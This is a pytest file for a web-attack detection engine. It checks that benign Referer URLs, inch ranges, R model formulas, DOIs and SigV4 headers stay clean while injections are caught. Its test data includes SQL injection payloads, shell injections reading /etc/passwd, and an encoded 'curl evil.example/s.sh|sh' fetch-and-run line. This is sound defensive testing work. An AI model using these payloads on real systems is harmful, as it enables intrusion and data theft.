"""Fix round 14 (blind batches za, zb and benign_13): a URL header read as its parsers read it, inch marks, a lone
bracket glob, model formulas, DOIs, SigV4 signed headers and a multipart part's own charset."""
from __future__ import annotations

import urllib.parse

import pytest

from sensor.detect import Engine, rce, sqli, ssrf, verdict
from sensor.detect.corpus import httpparams_rows
from sensor.detect.rawrequest import parse_raw
from tests.detect.conftest import req


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def _referer(url: str) -> object:
    return parse_raw(f"GET /p HTTP/1.1\r\nHost: shop.example\r\nReferer: {url}\r\n\r\n".encode())


# --- a URL header's decoded form is no string a server reads: its query is read pair by pair, each value decoded
@pytest.mark.parametrize("url", [
    "https://www.bestbuy.com/site/searchpage.jsp?st=oled+tv&qp=screensizeplusrange_facet%3DScreen%20Size~65%22%20-%2074%22&list=n",
    "https://www.otto.de/technik/fernseher/?marke=samsung~lg&bildschirmdiagonale=55%22-65%22&sortiertnach=preis-aufsteigend",
    "https://www.target.com/s?searchTerm=kids+rain+boots&category=0%7CAll%7Cmatchallpartial%7Call+categories&tref=typeahead%7Cterm",
    "https://example.atlassian.net/issues/?jql=project%20%3D%20WEB%20AND%20status%20in%20(%22In%20Progress%22%2C%20%22Code%20Review%22)%20AND%20assignee%20%3D%20currentUser()%20ORDER%20BY%20priority%20DESC",
    "https://confluence.example.com/dosearchsite.action?cql=siteSearch+~+%22release+notes%22+and+space+%3D+%22PLAT%22&queryString=release+notes",
    "https://grafana.example.com/d/rYdddlPWk/node?orgId=1&var-node=10.0.3.14%3A9100&var-diskdevices=%5Ba-z%5D%2B%7Cnvme%5B0-9%5D%2Bn%5B0-9%5D%2B",
    # a URL inside a value, its own `&` encoded: splitting the decoded form would cut the inner query apart
    "https://shop.example/cart?coupon=https%3A%2F%2Fwww.google.com%2Fsearch%3Fq%3Ddrop%2Btable%2Blegs%26oq%3Ddrop",
])
def test_browser_referers_whose_values_are_not_plain_are_clean(engine, url):
    assert verdict(engine.inspect(_referer(url))) == "clean", engine.inspect(_referer(url))


@pytest.mark.parametrize("url", [
    "https://www.shop.example.com/list?dept=footwear&category=shoes%27%20UNION%20ALL%20SELECT%20NULL%2Cusername%2Cpassword%20FROM%20customers--%20&size=42",
    # encoded twice: the value decoded once still holds escapes, and the form decoded twice is read whole as before
    "https://www.shop.example.com/list?category=shoes%2527%2520UNION%2520ALL%2520SELECT%2520NULL%252Cpassword%2520FROM%2520customers--%2520&size=42",
    "https://intranet.example.com/export?fmt=pdf&filename=report.pdf%2526%2526curl%2520http%253A%252F%252Fevil.example%252Fs.sh%257Csh&lang=en",
    # in the path before the query, decoded as a server decodes a path
    "https://news.example.com/article/4821%20AND%20extractvalue(1%2Cconcat(0x7e%2C(SELECT%20user())%2C0x7e))/comments?page=3&sort=oldest",
    "https://www.shop.example.com/brand/nike%2527%2520UNION%2520SELECT%2520email%252Cpassword%2520FROM%2520users--%2520/sneakers?size=44",
    "https://shop.example/search?q=%3Bid%3B&page=2",                       # shell syntax in a value counts in full
    "https://shop.example/search?q=1%27%20waitfor%20delay%20%270%3A0%3A5%27--&page=2",
    "https://shop.example/search?q=1'+or+'1'='1&page=2",                   # literal quotes: the raw form read whole
])
def test_attacks_in_a_referer_query_are_found(engine, url):
    hits = engine.inspect(_referer(url))
    assert verdict(hits) == "attack" and any(h.point[:2] == ["header", "REFERER"] for h in hits), hits


def test_sql_attacks_found_in_a_query_are_found_in_a_referer_holding_it(engine):
    """Every third httpparams attack on which the SQL analyser fires as the request's own parameter, percent-encoded in
    one value of a Referer's query: still an attack."""
    compared, missed = 0, []
    for row in list(httpparams_rows("all"))[::3]:
        if row["label"] != "attack":
            continue
        q = urllib.parse.quote_plus(row["value"])
        own = engine.inspect(parse_raw(f"GET /search?q={q}&page=2 HTTP/1.1\r\nHost: shop.example\r\n\r\n".encode()))
        if not any(h.type == "sqli" and h.score >= 0.5 for h in own):
            continue
        compared += 1
        if verdict(engine.inspect(_referer(f"https://shop.example/search?q={q}&page=2"))) != "attack":
            missed.append(row["value"])
    assert compared > 1500 and not missed, missed[:5]


# --- inch marks, a regex's character class, a model formula, a DOI, SigV4's signed headers
@pytest.mark.parametrize("value", ['55"-65"', 'Screen Size~65" - 74"', "5'-6'", '24"-27"'])
def test_an_inch_range_is_no_breakout(value):
    assert sqli.analyze(value) is None


@pytest.mark.parametrize("value", ['1"-1-"', '1"-sleep(5)-"', '55" - 65" --', "1'-1#", "x'-1 or '1'='1"])
def test_a_breakout_with_an_operator_still_is(value):
    found = sqli.analyze(value)
    assert found is not None and found.score >= 0.5, value


def test_one_bracket_expression_names_no_command():
    assert rce.analyze("[a-z]+|nvme[0-9]+n[0-9]+") is None
    for value in (";[c]at /etc/passwd", ";c[a]t /etc/passwd", ";/bin/[w]", "x|/???/[w]"):
        found = rce.analyze(value)
        assert found is not None and found.score >= 0.5, value


@pytest.mark.parametrize("value", [
    'glm(cbind(successes, failures) ~ dose + offset(log(exposure)), family = binomial(link = "logit"), data = trial)',
    "glm(y ~ dose + offset(log(exposure)), data = trial)",
    "lm(y ~ log(x) + age * sex, data = d)",
])
def test_a_model_formula_is_no_sql(engine, value):
    assert verdict(engine.inspect(req("/models/fit", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
                                      b"model_spec=" + urllib.parse.quote_plus(value).encode()))) == "clean"


@pytest.mark.parametrize("value", ["' or name ~ 'a", "1 and name ~ '^adm' and sleep(5)", "1 ~ 1 union select password from users",
                                   "' or ascii(substr(name,1,1)) ~ 97 or '"])
def test_postgres_regex_match_in_an_injection_still_counts(value):
    found = sqli.analyze(value)
    assert found is not None and found.score >= 0.5, value


def test_a_doi_is_no_internal_address():
    for value in ("10.1038/s41586-020-2649-2", "10.1000/182", "10.48550/arXiv.2303.08774"):
        assert ssrf.analyze(value) is None, value
    # the short forms of internal addresses, and any form with a scheme, stay
    for value in ("10.1/admin", "127.1/admin", "http://10.1038/x", "10.1038/"):
        found = ssrf.analyze(value)
        assert found is not None and found.score >= 0.5, value


def test_sigv4_signed_headers_are_no_command(engine):
    r = parse_raw(b"GET /k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-SignedHeaders=host%3Bx-amz-date&X-Amz-Signature=0578b2 "
                  b"HTTP/1.1\r\nHost: b.s3.amazonaws.com\r\n\r\n")
    assert verdict(engine.inspect(r)) == "clean", engine.inspect(r)
    for value in ("host;x-amz-date", "content-type;host", "host;x-amz-content-sha256;x-amz-date"):
        assert rce.analyze(value) is None, value
    for value in ("host;id", "host;x-amz-date;id", "host;id;x-amz-date"):  # unsorted, or an item that is no header name
        found = rce.analyze(value)
        assert found is not None and found.score >= 0.5, value


def test_a_multipart_part_in_ebcdic_is_read_decoded(engine):
    payload = "' union select username, password from users--"
    body = (b"--b1\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=ibm273\r\n\r\n"
            + payload.encode("cp273") + b"\r\n--b1--\r\n")
    r = req("/search.aspx", "POST", [("Content-Type", "multipart/form-data; boundary=b1")], body)
    hits = engine.inspect(r)
    assert any(h.type == "sqli" and h.point[-1] == "charset" for h in hits), hits
